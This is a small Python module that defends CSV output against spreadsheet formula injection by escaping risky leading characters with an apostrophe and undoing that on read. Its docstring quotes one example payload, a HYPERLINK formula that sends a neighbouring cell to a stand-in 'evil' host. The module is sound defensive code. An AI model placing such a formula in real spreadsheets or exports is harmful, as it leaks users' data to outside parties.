"""Cells of CSV files that people open in spreadsheets: formula injection neutralised.

A cell starting with =, +, -, @, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil/?"&A2, "click")` sends a neighbour's
cell away). Such a cell is written with a leading apostrophe, which spreadsheets show as text
(OWASP's advice); a file read back strips the apostrophe again (:func:`restore`).
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: str) -> str:
    """Return a cell a spreadsheet will not run as a formula."""
    return "'" + value if value.startswith(FORMULA_START) else value


def restore(value: str) -> str:
    """Undo :func:`neutralise` on a cell read back from a file this program wrote."""
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_START) else value
